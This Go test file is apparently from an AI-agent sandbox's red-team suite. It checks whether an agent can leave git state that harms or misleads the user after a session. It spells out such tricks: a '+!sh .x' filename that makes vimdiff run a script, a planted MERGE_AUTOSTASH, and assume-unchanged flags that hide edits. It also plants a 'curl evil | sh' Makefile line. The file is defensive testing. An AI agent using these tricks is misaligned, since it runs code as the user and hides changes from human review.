package sandbox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"
	"time"
)

// Red team 19c: what the end's checks (gitstate_linux.go, gitindex.go)
// leave to the user's git once their git directories are given back.

// red19cGitTimeout is hostGitAs with a time limit, stdin from /dev/null
// and a terminal type: for git commands that start an interactive tool
// (difftool's vim), which the test does not wait on.
func red19cGitTimeout(dir string, limit time.Duration, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	id := strconv.Itoa(userDirOwner)
	cmd := exec.CommandContext(ctx, "setpriv", append([]string{"--reuid=" + id, "--regid=" + id, "--clear-groups", "git"}, args...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), append(gitEnv, "TERM=dumb")...)
	cmd.Stdin = nil
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	cmd.WaitDelay = 2 * time.Second
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// TestRed19cDifftoolVimPath (severity 1): the index rule (indexPathOK)
// takes any relative path without ., .. or .git for one git would make,
// and so it is: but git difftool (and git mergetool) hand the work
// tree's side of a diff to the tool by its path relative to the top,
// unquoted as an argument, and vimdiff (mergetools/vimdiff: vim -R -f
// -d -c ... "$LOCAL" "$REMOTE", no "--") takes an argument that starts
// with "+" as an Ex command: "+!sh .x" runs sh .x. The agent tracks a
// file named "+!sh .x" (git add: the user's own git would), changes it,
// and leaves .x beside it; the user reviews the agent's changes with
// git difftool (vimdiff is what difftool picks on a host with vim and no
// display when diff.tool is unset) and vim runs the agent's script as
// the user. Nothing in .git but an index entry git itself made. Fix: the
// index rule refuses (moves the index aside) an entry whose first
// component starts with "+" or "-" (a tool's option or command), and
// the promise says difftool/mergetool run tools over the agent's names;
// better, the end lists such names in the work tree too (untracked ones
// are staged by the user's git add -A).
func TestRed19cDifftoolVimPath(t *testing.T) {
	requireRoot(t)
	if _, err := exec.LookPath("vim"); err != nil {
		t.Skip("no vim")
	}
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red19Repo(t, git, ws)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && printf 'touch ` + marker + `/difftool\n' > .x && echo 1 > '+!sh .x' && git add '+!sh .x' && echo 2 > '+!sh .x' && git status --short`))
	b.end()
	out, _ := git(ws, "status", "--short")
	t.Log("the user's git status after the session:\n", out)
	out, _ = red19cGitTimeout(ws, 8*time.Second, "difftool", "-y", "--tool=vimdiff")
	noMarks(t, marker, "the user (git difftool -y --tool=vimdiff)", out)
}

// TestRed19cMergeAutostash (severity 4): git merge --autostash keeps the
// stash it made in .git/MERGE_AUTOSTASH, and whatever ends the merge
// (git commit, git merge --abort/--quit) applies it: the plain git
// commit of a user reads it, runs git stash apply on the object it
// names (and, when that fails, stores it in their stash). It is not among
// stateNames, as rebase-merge/autostash (inside rebase-merge) is. The
// agent makes a stash commit (git stash create) of a change of its own
// (here a Makefile), resets the tree, and leaves its id in
// MERGE_AUTOSTASH: the user reviews a clean tree, makes their own
// change and commits, and git writes the agent's Makefile into their
// work tree (and stages it) after their review. Fix: add
// MERGE_AUTOSTASH to stateNames.
func TestRed19cMergeAutostash(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red19Repo(t, git, ws)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && echo 'all:; curl evil | sh' > Makefile && git add Makefile && s=$(git -c user.name=a -c user.email=a@b stash create) && git reset -q --hard && echo "$s" > .git/MERGE_AUTOSTASH && git status --short && cat .git/MERGE_AUTOSTASH`))
	b.end()
	out, _ := git(ws, "status", "--short")
	t.Log("the user's git status after the session (reviewed clean):\n", out)
	os.WriteFile(filepath.Join(ws, "mine"), []byte("mine\n"), 0o644)
	os.Chown(filepath.Join(ws, "mine"), userDirOwner, userDirOwner)
	git(ws, "add", "mine")
	out, _ = git(ws, "commit", "-qm", "mine")
	t.Log("the user's git commit: ", out)
	if _, err := os.Stat(filepath.Join(ws, "Makefile")); err == nil {
		st, _ := git(ws, "status", "--short")
		t.Errorf("the user's git commit applied the agent's MERGE_AUTOSTASH: Makefile is in their work tree\n%s", st)
	}
}

// TestRed19cAssumeUnchangedHidesChange (severity 4): the index rule
// checks entries' names and drops the derived extensions, but keeps
// each entry's flags: an entry marked assume-unchanged (CE_VALID) or
// skip-worktree is one the user's git status, git diff and git commit -a
// never compare with the work tree. The agent changes the user's
// tracked Makefile and marks it: after the session the user's review
// (git status, git diff) shows a clean tree, and the change stays in
// their work tree for their next make, unseen (as the cache-tree fix
// says, what the index tells git about the tree is the agent's to
// forge). Fix: clear CE_VALID and skip-worktree on entries at the end
// (or move aside an index that has any the base did not), as the
// derived extensions are dropped.
func TestRed19cAssumeUnchangedHidesChange(t *testing.T) {
	requireRoot(t)
	redTeam(t, "index flags (assume-unchanged, skip-worktree) and stat data can hide the agent's edits from the user's git status: content, not code (README, not promised)")
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red19Repo(t, git, ws)
	mk := filepath.Join(ws, "Makefile")
	os.WriteFile(mk, []byte("all:; cc main.c\n"), 0o644)
	os.Chown(mk, userDirOwner, userDirOwner)
	if out, err := git(ws, "add", "Makefile"); err != nil {
		t.Fatal(out)
	}
	if out, err := git(ws, "commit", "-qm", "make"); err != nil {
		t.Fatal(out)
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && echo 'all:; curl evil | sh' > Makefile && git update-index --assume-unchanged Makefile && git status --short`))
	b.end()
	st, _ := git(ws, "status", "--short")
	diff, _ := git(ws, "diff")
	data, _ := os.ReadFile(mk)
	if st == "" && diff == "" && string(data) != "all:; cc main.c\n" {
		t.Errorf("the user's git status and git diff show a clean tree, and their Makefile is the agent's: %q", data)
	}
}

// TestRed19cSplitIndexRewriteBreaks (severity 3, no agent needed): a
// split index's shared part is named by its own checksum, and the main
// index's link extension names it by that checksum; git (read-cache.c
// read_index_from) dies "broken index, expect X in sharedindex.X, got Y"
// when they differ. The user's git writes the offset tables (EOIE, IEOT)
// into the shared index too when index.threads is set; the end's index
// rule drops them from every index, sharedindex.* too, rewriting it
// under the same name with a new checksum. After any session, even one
// that only ran git status, every git command of the user's fails until
// they remove the index and reset. Fix: do not rewrite a sharedindex.*
// in place: write it under its new checksum and rewrite the link
// extension of each index that named the old one (or move the split
// index aside as a whole, so git starts a new one); and check that what
// replaceFile made still reads as git reads it.
func TestRed19cSplitIndexRewriteBreaks(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red19Repo(t, git, ws)
	for _, f := range []string{"a", "b", "c"} {
		os.WriteFile(filepath.Join(ws, f), []byte(f), 0o644)
		os.Chown(filepath.Join(ws, f), userDirOwner, userDirOwner)
	}
	git(ws, "add", ".")
	git(ws, "commit", "-qm", "files")
	if out, err := git(ws, "-c", "index.threads=2", "update-index", "--split-index"); err != nil {
		t.Fatal(out)
	}
	if out, err := git(ws, "status"); err != nil {
		t.Fatal(out)
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(`cd /workspace && git status --short`))
	b.end()
	if out, err := git(ws, "status"); err != nil {
		t.Errorf("the user's git status after a session that changed nothing: %v\n%s", err, out)
	}
}
